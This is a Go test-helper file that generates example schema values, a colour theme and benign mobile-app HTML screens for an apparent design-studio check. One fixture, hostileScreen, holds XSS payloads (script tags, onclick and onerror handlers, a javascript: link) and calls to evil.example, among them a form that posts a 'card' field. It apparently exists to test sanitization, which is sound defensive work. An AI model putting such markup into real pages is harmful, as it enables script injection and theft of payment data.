package geminitest

import (
	"fmt"
	"html"
	"strings"
)

// schema is the part of a response schema that examples are made by.
type schema struct {
	Type       string             `json:"type"`
	Enum       []string           `json:"enum"`
	Items      *schema            `json:"items"`
	Properties map[string]*schema `json:"properties"`
}

func (s *schema) has(property string) bool { return s != nil && s.Properties[property] != nil }

// example is a value of the schema's form; name is the field that it is for.
func (s *schema) example(name string) any {
	switch {
	case s == nil:
		return "Example"
	case len(s.Enum) > 0:
		return s.Enum[0]
	}
	switch strings.ToLower(s.Type) {
	case "object":
		value := map[string]any{}
		for field, form := range s.Properties {
			value[field] = form.example(field)
		}
		return value
	case "array":
		return []any{s.Items.example(name)}
	case "number", "integer":
		return 1
	case "boolean":
		return true
	}
	if value, ok := themeValues[name]; ok {
		return value
	}
	return "Example " + name
}

// themeValues are a calm theme whose texts are readable.
var themeValues = map[string]string{
	"name": "Harbour Morning", "background": "#f8fafc", "foreground": "#0f172a",
	"primary": "#0f5f8c", "primary_rgb": "15, 95, 140", "primary_foreground": "#ffffff",
	"secondary": "#dbeafe", "secondary_foreground": "#1e293b", "muted": "#e9eef4", "muted_foreground": "#475569",
	"accent": "#fde68a", "accent_foreground": "#422006", "destructive": "#b91c1c", "destructive_foreground": "#ffffff",
	"card": "#ffffff", "card_foreground": "#0f172a", "popover": "#ffffff", "popover_foreground": "#0f172a",
	"border": "#d5dde7", "input": "#d5dde7", "ring": "#0f5f8c", "radius": "0.75rem",
	"chart_1": "#0f5f8c", "chart_2": "#15803d", "chart_3": "#7c3aed", "chart_4": "#b45309", "chart_5": "#be185d",
}

// styleAnswer is what is seen in any picture. Its magenta is in none of a sane mind.
const styleAnswer = `{"colors":[{"role":"secondary","hex":"#ff00ff","image":0,"confidence":0.9}],` +
	`"typography":[{"name":"heading","value":"Geometric sans, about 28 px, semibold","image":0,"confidence":0.85},` +
	`{"name":"body","value":"The same family, 16 px, regular","image":0,"confidence":0.8}],` +
	`"components":[{"name":"button","value":"Filled, full width, 48 px high","image":0,"confidence":0.9}],` +
	`"radius":"12px","typeBrief":"Geometric sans, large semibold headings","partsBrief":"Filled buttons, flat cards with a hairline border","styleBrief":"calm, minimal"}`

// hostileScreen is a screen that tries most of what a screen must not do.
const hostileScreen = `<div class="bg-white p-4" onclick="alert(1)"><script>alert(1)</script><h1 class="text-[#fff]">Hello</h1>` +
	`<img src="https://evil.example/pixel.gif" onerror="alert(1)"><a href="javascript:alert(1)">More</a><iframe src="https://evil.example"></iframe>` +
	`<form action="https://evil.example"><input name="card"></form><p style="background:url(https://evil.example)">x</p></div>`

// Screen is a screen in the house's own form: it passes the studio's check
// unchanged. Its rows are repeated until it has about size bytes.
func Screen(name string, size int) string {
	title := html.EscapeString(name)
	if title == "" {
		title = "Screen"
	}
	head := `<div class="flex min-h-screen w-full flex-col bg-background text-foreground"><header class="flex items-center justify-between px-5 pb-4 pt-12">` +
		`<div><p class="text-sm text-muted-foreground">Tuesday</p><h1 class="text-2xl font-semibold">` + title + `</h1></div>` +
		`<button type="button" aria-label="Alerts" class="grid h-11 w-11 place-items-center rounded-full bg-muted">` + icon("M18 8a6 6 0 1 0-12 0c0 7-3 9-3 9h18s-3-2-3-9M10 21h4") + `</button></header>` +
		`<main class="flex-1 space-y-4 px-5 pb-6"><section class="rounded-2xl bg-primary p-5 text-primary-foreground shadow-lg">` +
		`<p class="text-sm opacity-80">This week</p><p class="mt-1 text-4xl font-bold">128 min</p>` +
		`<div class="mt-4 h-2 rounded-full bg-primary-foreground/20"><div class="h-2 rounded-full bg-primary-foreground" style="width: 64%"></div></div></section>` +
		`<ul class="space-y-3">`
	tail := `</ul></main><nav aria-label="Main" class="sticky bottom-0 grid grid-cols-3 border-t border-border bg-card py-2 text-xs">` +
		tab("Home", true, "M3 12l9-9 9 9M5 10v10h14V10") + tab("Plan", false, "M4 5h16v16H4zM4 9h16M8 3v4M16 3v4") + tab("You", false, "M12 12a4 4 0 1 0 0-8 4 4 0 0 0 0 8M4 21c0-4 4-6 8-6s8 2 8 6") +
		`</nav></div>`
	var b strings.Builder
	b.WriteString(head)
	subjects := []string{"Morning stretch", "Breathing", "Long walk", "Evening swim", "Meal plan"}
	for i := 0; ; i++ {
		row := fmt.Sprintf(`<li class="flex items-center gap-4 rounded-xl border border-border bg-card p-4"><span class="grid h-10 w-10 place-items-center rounded-lg bg-primary/10 text-primary">%s</span>`+
			`<div class="min-w-0 flex-1"><p class="truncate font-medium">%s %d</p><p class="text-sm text-muted-foreground">%d minutes, %d:30</p></div>`+
			`<span class="rounded-full bg-secondary px-3 py-1 text-xs text-secondary-foreground">Level %d</span></li>`,
			icon("M5 12h14M12 5l7 7-7 7"), subjects[i%len(subjects)], i+1, 10+i%50, 7+i%12, 1+i%5)
		if i > 0 && b.Len()+len(row)+len(tail) > size {
			break
		}
		b.WriteString(row)
	}
	b.WriteString(tail)
	return b.String()
}

func icon(path string) string {
	return `<svg viewBox="0 0 24 24" fill="none" stroke="currentColor" stroke-width="2" class="h-5 w-5" aria-hidden="true"><path d="` + path + `"></path></svg>`
}

func tab(label string, current bool, path string) string {
	state := `class="flex flex-col items-center gap-1 text-muted-foreground"`
	if current {
		state = `class="flex flex-col items-center gap-1 font-medium text-primary" aria-current="page"`
	}
	return `<button type="button" ` + state + `>` + icon(path) + label + `</button>`
}
